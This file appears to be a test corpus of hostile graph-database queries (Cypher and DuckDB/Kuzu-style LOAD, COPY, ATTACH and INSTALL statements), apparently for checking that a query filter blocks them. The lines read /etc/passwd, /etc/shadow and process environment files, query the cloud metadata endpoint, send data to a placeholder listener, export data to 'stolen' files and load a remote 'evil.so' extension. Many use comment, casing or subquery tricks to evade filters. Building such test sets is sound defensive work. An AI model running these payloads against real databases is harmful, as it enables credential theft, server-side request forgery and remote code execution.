LOAD CSV WITH HEADERS FROM 'file:///etc/passwd' AS row RETURN row

LOAD CSV WITH HEADERS FROM 'https://{listener}/x' AS row FIELDTERMINATOR ';' RETURN row

LOAD CSV FROM 'ftp://{listener}/x' AS row RETURN row

LOAD CSV FROM 'jar:http://{listener}/x.jar!/y' AS row RETURN row

LOAD CSV FROM 'http://169.254.169.254/latest/meta-data/' AS row RETURN row

LOAD CSV FROM $words[0] AS row RETURN row

LOAD
CSV
FROM 'http://{listener}/x' AS row RETURN row

Load Csv From 'http://{listener}/x' As row Return row

WITH 'http://{listener}/x' AS address LOAD CSV FROM address AS row RETURN row

MATCH (n:Report) WITH n LIMIT 1 LOAD CSV FROM 'http://{listener}/?' + n.title AS row RETURN row

UNWIND ['http://{listener}/a', 'http://{listener}/b'] AS address LOAD CSV FROM address AS row RETURN row

MATCH (n) WHERE EXISTS { LOAD CSV FROM 'http://{listener}/x' AS row RETURN row } RETURN n

RETURN EXISTS { UNWIND [1] AS x LOAD CSV FROM 'http://{listener}/x' AS row RETURN row } AS found

MATCH (n) RETURN n ORDER BY COUNT { LOAD CSV FROM 'http://{listener}/x' AS row RETURN row }

MATCH (n) RETURN [COLLECT { LOAD CSV FROM 'http://{listener}/x' AS row RETURN row }][0]

RETURN {rows: COLLECT { LOAD CSV FROM 'http://{listener}/x' AS row RETURN row }} AS map

MATCH (n:Person) RETURN n UNION LOAD CSV FROM 'http://{listener}/x' AS n RETURN n

CALL { MATCH (n) RETURN n UNION LOAD CSV FROM 'http://{listener}/x' AS n RETURN n } RETURN n

OPTIONAL CALL { LOAD CSV FROM 'http://{listener}/x' AS r RETURN r } RETURN r

LOAD/* */CSV/* */FROM/* */'http://{listener}/x' AS row RETURN row

LOAD // quiet
CSV FROM 'http://{listener}/x' AS row RETURN row

LOAD FROM '{folder}/munigraph.db' (file_format='csv') RETURN *

LOAD FROM 'http://{listener}/x.csv' RETURN *

LOAD FROM 's3://bucket/x.parquet' RETURN *

LOAD FROM '/proc/self/environ' (file_format='csv', delim='\0') RETURN *

LOAD FROM "/etc/passwd" (header=false, delim=':', file_format='csv') RETURN column0

LOAD WITH HEADERS (line STRING) FROM '/etc/shadow' (file_format='csv') RETURN line

LOAD FROM ['/etc/hostname'] (file_format='csv') RETURN *

LOAD FROM Person RETURN *

MATCH (n:Person) WITH n LOAD FROM '{folder}/x.csv' RETURN *

UNWIND [1] AS x LOAD FROM '/etc/hostname' (file_format='csv') RETURN x

RETURN EXISTS { LOAD FROM '/etc/hostname' (file_format='csv') RETURN 1 } AS found

COPY (MATCH (n) RETURN n.*) TO '{folder}/stolen.parquet'

COPY (MATCH (n:Person) RETURN n.name) TO '{folder}/stolen.json'

copy (return 1) to '{folder}/stolen.csv' (header=true)

COPY(RETURN 1)TO'{folder}/stolen.csv'

EXPORT DATABASE '{folder}/stolen' (format='csv', header=true)

export database '{folder}/stolen'

IMPORT DATABASE '/tmp'

ATTACH 'http://{listener}/x.duckdb' AS other (dbtype duckdb)

ATTACH 'host=127.0.0.1 dbname=x' AS other (dbtype postgres)

ATTACH '{folder}/munigraph.db' AS other (dbtype sqlite)

DETACH other

INSTALL sqlite

FORCE INSTALL httpfs

INSTALL httpfs FROM 'http://{listener}/'

UNINSTALL httpfs

UPDATE httpfs

LOAD httpfs

LOAD EXTENSION httpfs

LOAD EXTENSION 'http://{listener}/evil.so'
